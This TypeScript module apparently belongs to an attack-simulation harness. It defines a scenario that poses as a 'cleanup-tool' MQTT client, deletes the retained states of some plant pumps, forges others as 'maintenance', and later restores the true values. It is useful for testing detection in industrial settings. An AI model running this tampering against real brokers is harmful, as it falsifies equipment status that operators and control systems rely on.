import { type Attack, asStranger, pause } from './attack-scene';

/** The state of every pump is kept by the broker for who comes later. */
const cleared = ['plant/line-1/pump-1/state', 'plant/line-1/pump-2/state', 'plant/line-1/pump-3/state'];
const changed = ['plant/line-2/pump-1/state', 'plant/line-2/pump-3/state'];
const forged = Buffer.from('{"state":"maintenance"}');
const pauseMs = 1500;
const holdMs = 10_000;

/** Deletes some of the messages that the broker keeps and replaces the others; puts the true ones back at the end. */
export const retainedTampering: Attack = (scene) =>
  asStranger(scene, 'cleanup-tool', async (client, clientId) => {
    const kept = new Map<string, Buffer>();
    client.on('message', (topic, payload) => {
      if (payload.length > 0 && !payload.equals(forged)) kept.set(topic, payload);
    });
    await client.subscribeAsync([...cleared, ...changed], { qos: 1 });
    await pause(scene, pauseMs);
    try {
      for (const topic of cleared) {
        await client.publishAsync(topic, '', { qos: 1, retain: true });
        await pause(scene, pauseMs);
      }
      for (const topic of changed) {
        await client.publishAsync(topic, forged, { qos: 1, retain: true });
        await pause(scene, pauseMs);
      }
      await pause(scene, holdMs);
    } finally {
      if (client.connected)
        for (const [topic, payload] of kept)
          await client.publishAsync(topic, payload, { qos: 1, retain: true });
    }
    return `MQTT client ${clientId} deleted the kept states of ${cleared.length} pumps and replaced those of ${changed.length} others; ${kept.size} true ones were put back.`;
  });
